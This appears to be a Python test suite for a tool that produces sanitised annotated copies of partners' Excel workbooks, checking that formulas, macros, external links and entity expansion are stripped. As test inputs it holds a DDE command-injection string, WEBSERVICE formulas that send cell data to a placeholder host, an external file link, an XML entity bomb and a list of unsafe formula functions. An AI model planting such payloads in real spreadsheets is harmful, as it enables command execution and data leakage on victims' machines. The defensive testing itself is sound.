"""Nothing of what a partner's file could run, call or embed is in the copy."""

from __future__ import annotations

import io
import struct
import zlib
from datetime import date, datetime
from typing import Any

import pytest

from cite_data.sources.classeur.annotation_formules import formule_sure
from cite_data.sources.classeur.brut import ClasseurBrut, FeuilleBrute
from tests.unitaires.sources.classeur.annotation_essai import (
    annotee,
    classeur_xlsx,
    constat,
    erreurs,
    lire,
    membres,
    ouvrir,
    page,
    refaire,
    texte_erreurs,
    une_feuille,
)

DDE = "=cmd|'/c calc'!A0"


def png() -> bytes:
    """The smallest image."""

    def bloc(genre: bytes, corps: bytes) -> bytes:
        return struct.pack(">I", len(corps)) + genre + corps + struct.pack(">I", zlib.crc32(genre + corps))

    tete = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    corps = bloc(b"IHDR", tete) + bloc(b"IDAT", zlib.compress(b"\0\0")) + bloc(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + corps


def aucune_formule(octets: bytes) -> bool:
    feuilles = {nom: xml for nom, xml in membres(octets).items() if nom.startswith("xl/worksheets/sheet")}
    assert feuilles
    return not any(b"<f" in xml.replace(b"<formula", b"") for xml in feuilles.values())


def test_formulas_become_their_last_value_with_its_type() -> None:
    def remplir(classeur: Any) -> None:
        feuille = classeur.add_worksheet("Actions")
        feuille.write_formula("A1", "=1+1", value=2)
        feuille.write_formula("B1", '=HYPERLINK("http://exemple.test/?"&A1,"voir")', value="voir")
        feuille.write_formula("C1", DDE, value="calc")
        feuille.write_formula(
            "D1", "=TODAY()", classeur.add_format({"num_format": "dd/mm/yyyy"}), value=45382
        )
        feuille.write_array_formula("E1:E2", "{=A1:A2*2}", value=4)
        feuille.write_formula("F1", "='[autre.xlsx]Feuil1'!A1", value="d'ailleurs")
        feuille.write_formula("G1", "=A1>1", value=True)

    octets = classeur_xlsx(remplir)
    copie = annotee(octets, constat(ligne=1, colonne=3))
    valeurs = [c.value for c in page(copie)[1]]
    assert valeurs == [2, "voir", "calc", datetime(2024, 3, 31), 4, "d'ailleurs", True]  # noqa: DTZ001
    assert page(copie)["D1"].number_format == "dd/mm/yyyy"
    assert aucune_formule(copie)
    assert b"HYPERLINK" not in b"".join(membres(copie).values())


def test_a_formula_without_a_value_stays_as_a_text() -> None:
    octets = une_feuille([["a", "b"]])
    octets = refaire(
        octets,
        lambda m: m.update(
            {
                "xl/worksheets/sheet1.xml": m["xl/worksheets/sheet1.xml"].replace(
                    b'<c r="B1" t="s"><v>1</v></c>', b'<c r="B1"><f>SUM(A1,2)</f></c>'
                )
            }
        ),
    )
    copie = page(annotee(octets, constat("Sans valeur.", ligne=1, colonne=2)))
    assert (copie["B1"].value, copie["B1"].data_type) == ("=SUM(A1,2)", "s")


@pytest.mark.parametrize(
    "texte", [DDE, "=1+1", "+33 4 91", "-12 ou plus", "@SUM(1)", "\tcalc", "#REF!", "007", "' ="]
)
def test_a_text_that_looks_like_a_formula_stays_a_text(texte: str) -> None:
    def remplir(classeur: Any) -> None:
        classeur.add_worksheet("Actions").write_string(0, 0, texte)

    octets = classeur_xlsx(remplir)
    brut = ClasseurBrut("essai.csv", "csv", (FeuilleBrute("Actions", [[texte]]),))
    for copie in (annotee(octets), annotee(b"", brut=brut)):
        cellule = page(copie)["A1"]
        assert (cellule.value, cellule.data_type) == (texte, "s")
        assert bool(cellule.quotePrefix) is texte.startswith(("=", "+", "-", "@", "\t"))
        assert aucune_formule(copie)


def test_words_of_a_fault_are_never_run() -> None:
    copie = annotee(
        une_feuille([["a"]]),
        constat(DDE, ligne=1, colonne=1, entete="=1+1", valeur=DDE, suggestion='=HYPERLINK("http://x")'),
    )
    (faute,) = erreurs(copie)
    assert (faute["Ce qui ne va pas"], faute["Valeur"], faute["Proposition"]) == (
        DDE,
        DDE,
        '=HYPERLINK("http://x")',
    )
    assert aucune_formule(copie)


def test_macros_drawings_charts_and_links_are_left_out() -> None:
    def remplir(classeur: Any) -> None:
        feuille = classeur.add_worksheet("Actions")
        feuille.write_row(0, 0, ["a", 1])
        feuille.write_url(1, 0, "https://exemple.test/piste", string="voir")
        feuille.write_url(2, 0, r"external:\\serveur\partage\f.xlsx", string="partage")
        feuille.insert_image(
            "D1", "p.png", {"image_data": io.BytesIO(png()), "url": "https://exemple.test/i"}
        )
        graphique = classeur.add_chart({"type": "column"})
        graphique.add_series({"values": "=Actions!$B$1"})
        feuille.insert_chart("D5", graphique)
        feuille.insert_textbox("H1", "mot caché")
        autre = classeur.add_chart({"type": "bar"})
        autre.add_series({"values": "=Actions!$B$1"})
        classeur.add_chartsheet("Graphe").set_chart(autre)
        classeur.add_worksheet("Suite").write(0, 0, "b")
        classeur.add_vba_project(io.BytesIO(b"macro"), True)

    octets = classeur_xlsx(remplir)
    assert {"xl/vbaProject.bin", "xl/media/image1.png"} <= set(membres(octets))
    copie = annotee(octets, constat(feuille="Suite", ligne=1, colonne=1))
    assert "sans sa mise en forme" not in texte_erreurs(copie)  # a chart is no reason to lose the layout
    assert ouvrir(copie).sheetnames == ["Erreurs", "Actions", "Suite"]
    assert [c.value for c in page(copie)["A"]] == ["a", "voir", "partage"]
    assert not [c for ligne in page(copie).iter_rows() for c in ligne if c.hyperlink]
    assert set(membres(copie)) == {
        "[Content_Types].xml",
        "_rels/.rels",
        "docProps/app.xml",
        "docProps/core.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/comments/comment1.xml",
        "xl/drawings/commentsDrawing1.vml",
        "xl/styles.xml",
        "xl/theme/theme1.xml",
        "xl/workbook.xml",
        "xl/worksheets/_rels/sheet3.xml.rels",
        "xl/worksheets/sheet1.xml",
        "xl/worksheets/sheet2.xml",
        "xl/worksheets/sheet3.xml",
    }
    tout = b"".join(membres(copie).values())
    for trace in (b"exemple.test", b"serveur", b"macro", b"External", b"mot cach"):
        assert trace not in tout


def test_links_to_other_workbooks_are_left_out() -> None:
    octets = une_feuille([["a"]])

    def lier(contenu: dict[str, bytes]) -> None:
        contenu["xl/externalLinks/externalLink1.xml"] = (
            b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
        )
        contenu["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
            b'Target="file:///secret/autre.xlsx" TargetMode="External"/></Relationships>'
        )
        contenu["xl/workbook.xml"] = contenu["xl/workbook.xml"].replace(
            b"</sheets>",
            b'</sheets><externalReferences><externalReference r:id="rId9"/></externalReferences><definedNames>'
            b"<definedName name=\"dehors\">'[1]Feuil1'!$A$1</definedName>"
            b'<definedName name="ici">Actions!$A$1:$A$3</definedName>'
            b'<definedName name="calcul">HYPERLINK("http://exemple.test")</definedName>'
            b'<definedName name="macro" function="1" xlm="1">Actions!$A$1</definedName>'
            b'<definedName name="dde" localSheetId="0">cmd|\'/c calc\'!A0</definedName></definedNames>',
        )
        contenu["xl/_rels/workbook.xml.rels"] = contenu["xl/_rels/workbook.xml.rels"].replace(
            b"</Relationships>",
            b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"'
            b' Target="externalLinks/externalLink1.xml"/></Relationships>',
        )

    copie = annotee(refaire(octets, lier))
    assert set(ouvrir(copie).defined_names) == {"ici"}
    assert not page(copie).defined_names
    assert not [nom for nom in membres(copie) if "external" in nom.lower()]
    tout = b"".join(membres(copie).values())
    for trace in (b"secret", b"[1]", b"HYPERLINK", b"cmd|"):
        assert trace not in tout


def test_rules_stay_when_they_look_only_at_the_workbook() -> None:
    def remplir(classeur: Any) -> None:
        feuille = classeur.add_worksheet("Actions")
        liste = classeur.add_worksheet("L'été")
        liste.write_column(0, 0, ["x", "y"])
        feuille.write_row(0, 0, ["a", "b", "c", "d", "e"])
        classeur.define_name("choix", "='L''été'!$A$1:$A$2")
        for colonne, source in enumerate(["=choix", "='L''été'!$A$1:$A$2", ["oui", "non"]]):
            feuille.data_validation(1, colonne, 9, colonne, {"validate": "list", "source": source})
        feuille.data_validation(
            "D2:D9", {"validate": "custom", "value": "=AND(LEN(D2)=14,COUNTIF($D$2:$D$9,D2)=1)"}
        )
        feuille.data_validation("E2:E9", {"validate": "date", "criteria": ">", "value": date(2024, 1, 1)})
        feuille.data_validation("F2:F9", {"validate": "list", "source": "='[autre.xlsx]F'!$A$1:$A$3"})
        feuille.data_validation(
            "G2:G9", {"validate": "custom", "value": '=WEBSERVICE("http://exemple.test/?"&A1)=1'}
        )
        feuille.data_validation("H2:H9", {"validate": "custom", "value": DDE})
        jaune = classeur.add_format({"bg_color": "#FFFF00"})
        feuille.conditional_format("A2:A9", {"type": "cell", "criteria": ">", "value": 5, "format": jaune})
        feuille.conditional_format("B2:B9", {"type": "formula", "criteria": "=LEN($B2)=0", "format": jaune})
        feuille.conditional_format("C2:C9", {"type": "2_color_scale"})
        feuille.conditional_format(
            "D2:D9",
            {"type": "formula", "criteria": '=WEBSERVICE("http://exemple.test/"&A1)=""', "format": jaune},
        )

    copie = page(annotee(classeur_xlsx(remplir), constat(ligne=2, colonne=1)))
    assert [(str(dv.sqref), dv.formula1) for dv in copie.data_validations.dataValidation] == [
        ("A2:A10", "choix"),
        ("B2:B10", "'L''été'!$A$1:$A$2"),
        ("C2:C10", '"oui,non"'),
        ("D2:D9", "AND(LEN(D2)=14,COUNTIF($D$2:$D$9,D2)=1)"),
        ("E2:E9", "45292"),
    ]
    assert {str(zone.sqref): len(zone.rules) for zone in copie.conditional_formatting} == {
        "A2:A9": 1,
        "B2:B9": 1,
        "C2:C9": 1,
    }


def test_a_table_keeps_its_look_without_its_formulas() -> None:
    def remplir(classeur: Any) -> None:
        feuille = classeur.add_worksheet("Actions")
        colonnes = [{"header": "h"}, {"header": "double", "formula": "=[@h]*2"}]
        feuille.add_table("A1:B3", {"name": "T", "data": [[1, 2], [3, 6]], "columns": colonnes})

    copie = annotee(classeur_xlsx(remplir), constat(ligne=2, colonne=1))
    table = page(copie).tables["T"]
    assert (table.ref, [c.name for c in table.tableColumns]) == ("A1:B3", ["h", "double"])
    assert b"Formula" not in membres(copie)["xl/tables/table1.xml"]
    assert aucune_formule(copie)


@pytest.mark.parametrize(
    "formule",
    [
        None,
        "",
        "5",
        '"a,b"',
        "=A1",
        "$A$1:$B$2",
        "A:A",
        "1:5",
        "noms",
        "'Mes d''été'!$A$1",
        "Actions!A1",
        "IF(A1>2,TRUE,1)",
        "-A1%",
    ],
)
def test_plain_formulas_are_safe(formule: str | None) -> None:
    assert formule_sure(formule, feuilles={"Actions", "Mes d'été"}, noms={"noms"})


@pytest.mark.parametrize(
    "formule",
    [
        "inconnu",
        "Autre!A1",
        "[1]Actions!A1",
        "'[f.xlsx]Actions'!A1",
        "'C:\\[f.xlsx]Actions'!A1",
        "cmd|'/c calc'!A0",
        'WEBSERVICE("http://x")',
        'HYPERLINK("http://x")',
        'INDIRECT("x")',
        'CALL("u","v","J")',
        "Actions!A1:Autre!A2",
        'IF(WEBSERVICE("x")=1,2,3)',
        "Table[Col]",
        'LEN("',
        "A1!B2!C3",
        "EVALUATE(A1)",
        "_xlfn.WEBSERVICE(A1)",
    ],
)
def test_formulas_that_reach_outside_are_not_safe(formule: str) -> None:
    assert not formule_sure(formule, feuilles={"Actions"}, noms={"noms"})


def test_a_link_over_a_whole_column_costs_nothing() -> None:
    octets = une_feuille([["a"]])

    def lier(contenu: dict[str, bytes]) -> None:
        contenu["xl/worksheets/sheet1.xml"] = contenu["xl/worksheets/sheet1.xml"].replace(
            b"<pageMargins",
            b'<mergeCells count="2"><mergeCell ref="C1:XFD1048576"/><mergeCell ref="A3:B3"/></mergeCells>'
            b'<hyperlinks><hyperlink ref="A1:XFD1048576" location="Actions!A1"/></hyperlinks><pageMargins',
            1,
        )

    copie = page(annotee(refaire(octets, lier)))
    assert [str(p) for p in copie.merged_cells.ranges] == ["A3:B3"]
    assert copie.max_column <= 2


def test_entities_are_not_expanded() -> None:
    octets = une_feuille([["a"]])
    bombe = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'

    def pieger(contenu: dict[str, bytes]) -> None:
        tete, corps = contenu["xl/workbook.xml"].split(b"?>", 1)
        contenu["xl/workbook.xml"] = tete + b"?>" + bombe + corps

    copie = annotee(refaire(octets, pieger), constat(ligne=1, colonne=1), brut=lire(octets))
    assert "sans sa mise en forme" in texte_erreurs(copie)
    assert page(copie)["A1"].value == "a"


def test_the_copy_of_a_protected_sheet_stays_protected_with_its_password() -> None:
    def remplir(classeur: Any) -> None:
        feuille = classeur.add_worksheet("Actions")
        feuille.write(0, 0, "a", classeur.add_format({"locked": False}))
        feuille.protect("secret")

    avant = classeur_xlsx(remplir)
    apres = annotee(avant, constat(ligne=1, colonne=1))
    assert page(apres).protection.password == page(avant).protection.password
    assert not page(apres)["A1"].protection.locked
